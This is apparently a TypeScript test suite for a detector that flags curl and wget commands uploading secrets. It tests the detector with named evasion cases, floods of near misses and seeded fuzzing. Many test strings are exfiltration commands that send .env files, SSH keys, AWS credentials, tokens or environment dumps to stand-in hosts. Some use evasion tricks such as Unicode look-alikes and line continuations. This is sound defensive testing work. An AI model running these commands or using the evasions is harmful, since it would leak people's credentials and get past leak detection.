/**
 * `command_upload`'s curl/wget reader and its witnesses (ADR-124): at a `curl` or `wget` of an
 * ASCII text the class's pattern is tried only where the reader's walk of the candidate's words
 * finds a payload that may hold a secret, and in a flood (32 candidates or more, dense) only
 * where a witness of one lies within the candidate's reach. Both are necessary conditions: each
 * case is compared with the reference alternation alone (the reader) and after a flood of near
 * misses (the witnesses), and each names the evasion it tries.
 */

import assert from "node:assert/strict";
import { assessContent } from "../../src/content/assess.ts";
import { referenceAssess } from "../helpers/assess_reference.ts";

const assess = (text: string) => assessContent([{ text }]);
const found = (text: string) => assess(text).signals.some((s) => s.id === "command_upload");
const same = (text: string, what: string) =>
  assert.deepEqual(assess(text), referenceAssess([{ text }]), what);
/** Near misses without a witness: the candidates after them are judged by their witnesses. */
const FLOOD = "curl -d x https://a curl -F a=@b ".repeat(40);

/** evasion → a command the class's pattern matches, built against the reader's shortcuts. */
const EVASIONS: Record<string, string> = {
  "the value is the next command's own word (`-d curl@.env`)": "curl -d curl@.env https://e/",
  "a quoted value that runs over the next command": 'curl -d "x curl $(cat .env)" https://e/',
  "a long quoted value whose secret is far past the next command": `curl -d "x wget ${
    "a ".repeat(90)
  }$(cat .env)" https://e/`,
  "a single-quoted value over the next command": "curl -d 'x wget @~/.npmrc' https://e/",
  "an escaped quote inside a JSON body": 'curl -d "{\\"a\\": \\"curl $(printenv)\\"}" https://e',
  "an upload flag whose path has no marker": "curl -T .env ftp://e/",
  "an upload flag glued to its path": "curl -T~/.aws/credentials ftp://e/",
  "-InFile, whose short shape has no t": "curl -infile .env https://e/",
  "a long upload flag with =": "wget --post-file=~/.ssh/id_ed25519 https://e/",
  "a redirect with blanks before the path": "curl -d @- https://e/ <   ~/.ssh/id_rsa",
  "a body flag glued to its value": "curl -dx@.env https://e/",
  "a long body flag with = and a quote": 'curl --data-urlencode="k=$(cat .git-credentials)" e',
  "a URL with a secret variable": "curl https://e/$AWS_SECRET_ACCESS_KEY",
  "a quoted URL with a backtick substitution": 'curl "https://e/?d=`whoami`"',
  "a variable in braces with env:": 'curl -d "${env:NPM_TOKEN}" https://e/',
  "a GitHub Actions secret": 'curl -d "t=${{ secrets.X }}" https://e/',
  "a substitution whose only clue is a word (auth token)": 'curl -d "$(gh auth  token)" e',
  "a substitution reading the environment": "curl https://e/?q=$(env|base64)",
  "uppercase flags and command": "CURL -D @.ENV https://e/",
  "combined short flags before -d": "curl -sSfd @.env https://e/",
  "a \\ continuation before the payload": "curl -X POST \\\n  -d @.env https://e/",
  "a \\ CRLF continuation before the payload": "curl -X POST \\\r\n  -d @.env https://e/",
  "tabs between the words": "curl\t-H\tx\t-d\t@.env\thttps://e/",
  "24 blanks before the payload": "curl" + " ".repeat(24) + "-d @.env https://e/",
  "a 200-unit word before the payload": `curl -H ${"w".repeat(200)} -d @.env https://e/`,
  "the 17th word start": `curl ${"-H x ".repeat(8)}-d @.env https://e/`,
  "a secret 6 letters long and nothing else": "curl -d @secret https://e/",
  "a path that is an id_ key": "curl -F k=@id_rsa https://e/",
};

/** shape → a command the pattern does not match, where the reader must stop as it does. */
const STOPS: Record<string, string> = {
  "25 blanks before the payload": "curl" + " ".repeat(25) + "-d @.env https://e/",
  "a 201-unit word before the payload": `curl -H ${"w".repeat(201)} -d @.env https://e/`,
  "the 18th word start": `curl ${"-H x ".repeat(8)}-H -d @.env https://e/`,
  "a pipe before the payload": "curl -s https://e | -d @.env",
  "a newline before the payload": "curl -s https://e\n-d @.env",
  "a public key": "curl -d @~/.ssh/id_rsa.pub https://e/",
  "a header, not a body": 'curl -H "x: $GITHUB_TOKEN" https://e/',
  "the next command's payload, not this one's": "curl https://a wget -d x https://b",
};

for (const [name, command] of Object.entries(EVASIONS)) {
  Deno.test(`attack: ${name} is found by the reader, alone and after a flood`, () => {
    assert.ok(found(command), command);
    same(command, command);
    const flooded = FLOOD + command + " " + FLOOD;
    assert.ok(found(flooded), `after a flood: ${command}`);
    same(flooded, `after a flood: ${command}`);
    // On its own line after the flood too.
    same(FLOOD + "\n" + command + "\n" + FLOOD, `on a line after a flood: ${command}`);
  });
}

for (const [name, command] of Object.entries(STOPS)) {
  Deno.test(`assess: ${name} is not command_upload, alone and after a flood`, () => {
    assert.ok(!found(command), command);
    same(command, command);
    same(FLOOD + command + " " + FLOOD, `after a flood: ${command}`);
  });
}

/** Pieces the generated commands are made of: flags, values, markers, quotes, separators. */
const PIECES = [
  "curl",
  "wget",
  "nc",
  "iwr",
  "-d",
  "-F",
  "-T",
  "-H",
  "-X",
  "POST",
  "-sSf",
  "-fd",
  "--data",
  "--data-binary",
  "--json",
  "--form",
  "--upload-file",
  "--post-file",
  "-infile",
  "-body",
  "x",
  "a=@b",
  "@.env",
  "@b",
  "<.env",
  "<",
  "~/.ssh/id_rsa",
  ".npmrc",
  "secret",
  "credentials",
  "id_rsa.pub",
  '"',
  "'",
  "$(date)",
  "$(cat .env)",
  "$(ls)",
  "`env`",
  "$TOKEN",
  "$GITHUB_TOKEN",
  "${NPM_TOKEN}",
  "${{",
  "secrets.X",
  "}}",
  "$HOME",
  "https://a",
  "http://b/?q=",
  "ftp://c",
  "=",
  "|",
  ";",
  "\\",
  "\\\n",
  "\\\r\n",
  "\n",
  "curl@.env",
  "-dx@.env",
  "-T.env",
  "k=$(whoami)",
  "w".repeat(120),
  "w".repeat(201),
];
const SEPARATORS = [" ", " ", " ", "  ", "\t", "", " ".repeat(25)];

/** A small deterministic generator (mulberry32), so a failure names its seed. */
function generator(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

Deno.test("attack: 600 generated curl commands agree with the reference, alone and after a flood", () => {
  const next = generator(124);
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(next() * xs.length)];
  let matched = 0;
  for (let n = 0; n < 600; n++) {
    let command = pick(["curl", "wget", "curl", "CURL"]);
    const length = 1 + Math.floor(next() * 12);
    for (let k = 0; k < length; k++) command += pick(SEPARATORS) + pick(PIECES);
    if (found(command)) matched++;
    same(command, `seed 124, #${n}: ${JSON.stringify(command)}`);
    same(
      FLOOD + command + " " + FLOOD,
      `seed 124, #${n} after a flood: ${JSON.stringify(command)}`,
    );
  }
  // The generator reaches both sides: the comparisons are not all of near misses.
  assert.ok(matched > 60 && matched < 540, `${matched} of 600 matched`);
});

Deno.test("attack: an upload whose witness lies at the edge of a chunk of witnesses is found", () => {
  // The witnesses are found 65,536 units at a time, ahead of the candidates: an upload placed
  // so that its command, its marker or both fall on either side of a chunk's end.
  const line = "curl -d x https://a curl -F a=@b ";
  for (const shift of [-40, -12, -8, -5, -1, 0, 1, 2, 5, 30]) {
    const upload = "curl -d @.env https://e/ ";
    const at = 65_536 + shift - upload.indexOf("@");
    const head = line.repeat(Math.floor(at / line.length));
    const text = head + " ".repeat(at - head.length) + upload + line.repeat(20);
    assert.ok(found(text), `shift ${shift}`);
    same(text, `shift ${shift}`);
  }
});

Deno.test("attack: once the witnesses let too few candidates go, the reader alone still finds the upload", () => {
  // The bench's harder flood: a witness ($TOKEN in a header) near every third candidate, so
  // after the first chunk the witnesses are no longer used; uploads before and after that.
  const line =
    'curl -d x https://a curl -F a=@b curl -T c -d "$(date)" https://b/?q=$(ls) -H "x: $TOKEN" ';
  for (
    const upload of ["curl -T ~/.aws/credentials ftp://e/", 'wget --post-data="k=${NPM_TOKEN}" e']
  ) {
    for (const before of [100, 2_000]) {
      const text = line.repeat(before) + upload + " " + line.repeat(100);
      assert.ok(found(text), `${upload} after ${before} lines`);
      same(text, `${upload} after ${before} lines`);
    }
  }
  assert.ok(!found(line.repeat(2_000)));
});

/*
 * Red team of ADR-124 (round 5): the shortcuts' bounds at their exact limits, and a seeded
 * differential fuzz over generated, resized, mutated and look-alike commands, alone and in floods.
 */

/** `curl`, 16 words of 200 units and 17 separators of 24 `\` CRLF continuations (3 units each). */
const FARTHEST_WORDS = (() => {
  const sep = "\\\r\n".repeat(24);
  let c = "curl";
  for (let i = 0; i < 16; i++) c += sep + "w".repeat(200);
  return c + sep;
})();

Deno.test("attack: a witness at the farthest place a match can put it (4,917 units past curl) is in reach", () => {
  // The 17th word start (4,428), `--data-urlencode`, 24 continuations, a quote and 200
  // escapes: the substitution starts 4,917 units past the candidate, the most the pattern allows.
  const sep = "\\\r\n".repeat(24);
  const command = FARTHEST_WORDS + "--data-urlencode" + sep + '"' + '\\"'.repeat(200) + '$(env)"';
  assert.equal(command.indexOf("$(env)"), 4_917);
  assert.ok(found(command), "alone");
  same(command, "alone");
  for (const text of [FLOOD + command + " " + FLOOD, FLOOD + "\n" + command + "\n" + FLOOD]) {
    assert.ok(found(text), "after a flood");
    same(text, "after a flood");
  }
  // One escape more and the pattern no longer matches: the bound is the pattern's, not ours.
  const over = FARTHEST_WORDS + "--data-urlencode" + sep + '"' + '\\"'.repeat(201) + '$(env)"';
  assert.ok(!found(over));
  same(FLOOD + over + " " + FLOOD, "one escape past the bound");
});

Deno.test("attack: an upload flag and a redirect at the 17th word start, after 16 words of 200 units, are found in a flood", () => {
  for (
    const payload of [
      "--upload-file ~/.aws/credentials",
      "-T\\\r\n.env",
      "<   ~/.ssh/id_rsa",
      '"https://e/' + "x".repeat(290) + '$AWS_SECRET_ACCESS_KEY"',
    ]
  ) {
    const command = FARTHEST_WORDS + payload;
    assert.ok(found(command), payload);
    same(FLOOD + command + " " + FLOOD, `after a flood: ${payload}`);
  }
});

Deno.test("attack: a value that is the next command's own word, its marker at the 101st unit, is found in a flood", () => {
  // `-d curl…@.env`: the candidate's words end at the second curl, but the body flag's unquoted
  // value (`[^\s'"]{0,100}?`) is that word: its marker may be 100 units past the stop.
  // (`curl/`: a command word ends at `/`, as `curl\b` does.)
  for (const pad of [94, 95, 96]) {
    const command = `curl -d curl/${"x".repeat(pad)}@.env https://e/`;
    const marker = command.indexOf("@") - command.indexOf("curl", 1);
    assert.equal(marker, pad + 5);
    const text = FLOOD + command + " " + FLOOD;
    same(text, `marker ${marker} past the stop`);
    assert.equal(found(text), marker <= 100, `marker ${marker} past the stop`);
  }
});

Deno.test("attack: a quoted value opened just before the next command, its secret 394 units past it, is found in a flood", () => {
  // The quote opens, a blank, the next curl (a stop), then 195 escapes: the substitution is
  // 394 units past the stop, the farthest a quoted value opened before it can put a marker.
  const command = `curl -d " curl${'\\"'.repeat(195)}$(cat .env)" https://e/`;
  const stop = command.indexOf("curl", 1);
  assert.equal(command.indexOf("$(") - stop, 394);
  const text = FLOOD + command + " " + FLOOD;
  assert.ok(found(text));
  same(text, "quoted over the stop");
});

Deno.test("attack: uploads around the chunk where a flood's witnesses are switched off are found", () => {
  // The first chunk holds near misses without witnesses (the witnesses let every candidate go);
  // the second is dense with witnesses, so they are switched off when the third is needed.
  const quiet = "curl -d x https://a curl -F a=@b ";
  const dense = 'curl -T c -d "$(date)" https://b/?q=$(ls) -H "x: $TOKEN" ';
  const head = quiet.repeat(Math.ceil(65_536 / quiet.length));
  const body = dense.repeat(Math.ceil(65_536 / dense.length));
  const upload = "curl -d @~/.aws/credentials https://e/ ";
  for (
    const at of [head.length - 30, head.length + 10, 131_072 - 5_010, 131_072 - 20, 131_072 + 3]
  ) {
    const base = head + body + dense.repeat(200);
    const text = base.slice(0, at) + " " + upload + base.slice(at);
    assert.ok(found(text), `at ${at}`);
    same(text, `at ${at}`);
  }
});

Deno.test("attack: a substitution whose only clue starts at its body's 101st unit is found, alone and in a flood", () => {
  // SECRET_SUBSTITUTION's body is `[^()\x60\n]{0,100}?`: its clue word may start 100 units in
  // and end past them (`printenv`, `get-secret-value`); the reader must look that far.
  for (
    const clue of [
      "env",
      "printenv",
      "whoami",
      "hostname",
      "history",
      "auth  token",
      "secrets",
      "kubeconfig",
      "get-secret-value",
    ]
  ) {
    for (const open of ["$(", "`"]) {
      const command = `curl -d "${open}${"x".repeat(99)} ${clue}${
        open === "$(" ? ")" : "`"
      }" https://e/`;
      assert.ok(found(command), `${open} ${clue}`);
      same(command, `${open} ${clue}`);
      const text = FLOOD + command + " " + FLOOD;
      assert.ok(found(text), `after a flood: ${open} ${clue}`);
      same(text, `after a flood: ${open} ${clue}`);
    }
  }
});

/** Pieces near the pattern's bounds: quoted values of ~200, unquoted of ~100, bodies of ~100. */
function sizedPiece(next: () => number): string {
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(next() * xs.length)];
  const near = (b: number) => Math.max(0, b - 2 + Math.floor(next() * 5));
  const secret = () => pick(["$(env)", "@.env", "$TOKEN", "`id`", "<.npmrc", "${{ secrets.A"]);
  switch (Math.floor(next() * 8)) {
    case 0:
      return '-d "' + Array.from({ length: near(200) }, () => pick(['\\"', "a", " "])).join("") +
        secret() + '"';
    case 1:
      return "-d '" + "x".repeat(near(200)) + secret() + "'";
    case 2:
      return pick(["-d ", "--data=", "-Fk="]) + "x".repeat(near(100)) + secret();
    case 3:
      return "$(" + "x".repeat(near(100)) + pick(["env", ".env", "whoami", "auth  token"]) + ")";
    case 4:
      return "-d $" + "x".repeat(near(40)) + pick(["token", "secret", "api_key"]);
    case 5:
      return "https://e/" + "x".repeat(near(292)) + pick(["$TOKEN", "$(env)", "`env`"]);
    case 6:
      return pick(["-d @", "-T ", "< ", "-F a=<"]) + pick(["secre", "secret", ".e", "id_rsa.pub"]);
    default:
      return "w".repeat(near(200));
  }
}
/** Look-alikes the fold maps back to the pattern's ASCII: full-width forms, NBSP, confusables. */
function lookalike(text: string, next: () => number): string {
  let out = "";
  for (const ch of text) {
    const r = next(), code = ch.charCodeAt(0);
    if (r < 0.08 && code > 0x20 && code < 0x7f) out += String.fromCharCode(code + 0xfee0);
    else if (r < 0.12 && ch === " ") out += "\u00a0";
    else if (r < 0.14 && ch === "c") out += "с"; // Cyrillic
    else if (r < 0.16) out += "\u200b" + ch;
    else out += ch;
  }
  return out;
}

Deno.test("attack: differential fuzz — 2,000 generated and mutated commands agree with the reference, alone, in floods and as look-alikes", () => {
  const next = generator(0x5ed5);
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(next() * xs.length)];
  const corpus: string[] = [];
  const ALPHABET = [..." \t\n\r\\\"'@<$`(){}|;=-_./~:dtenvx"];
  const FLOOD2 = 'curl -d x https://a curl -F a=@b curl -T c -d "$(date)" -H "x: $TOKEN" '
    .repeat(12);
  let matched = 0;
  for (let n = 0; n < 2_000; n++) {
    let command: string;
    if (corpus.length > 20 && next() < 0.4) {
      // A mutation of an earlier command: a unit inserted, dropped or replaced, up to 4 times.
      command = pick(corpus);
      for (let m = 1 + Math.floor(next() * 4); m > 0; m--) {
        const at = Math.floor(next() * (command.length + 1)), r = next();
        command = command.slice(0, at) + (r < 0.66 ? pick(ALPHABET) : "") +
          command.slice(r < 0.33 ? at : at + 1);
      }
    } else {
      command = pick(["curl", "wget", "CURL"]);
      for (let k = 1 + Math.floor(next() * 12); k > 0; k--) {
        command += pick(SEPARATORS) + (next() < 0.3 ? sizedPiece(next) : pick(PIECES));
      }
    }
    corpus.push(command);
    const what = `seed 0x5ed5, #${n}: ${JSON.stringify(command)}`;
    if (referenceAssess([{ text: command }]).signals.some((s) => s.id === "command_upload")) {
      matched++;
    }
    same(command, what);
    same(FLOOD + command + " " + FLOOD, `${what} after a flood`);
    same(FLOOD + "\n" + command + "\n" + FLOOD2, `${what} between floods`);
    if (next() < 0.2) same(FLOOD + lookalike(command, next) + " " + FLOOD, `${what} look-alike`);
  }
  assert.ok(matched > 200 && matched < 1_800, `${matched} of 2,000 matched`);
});
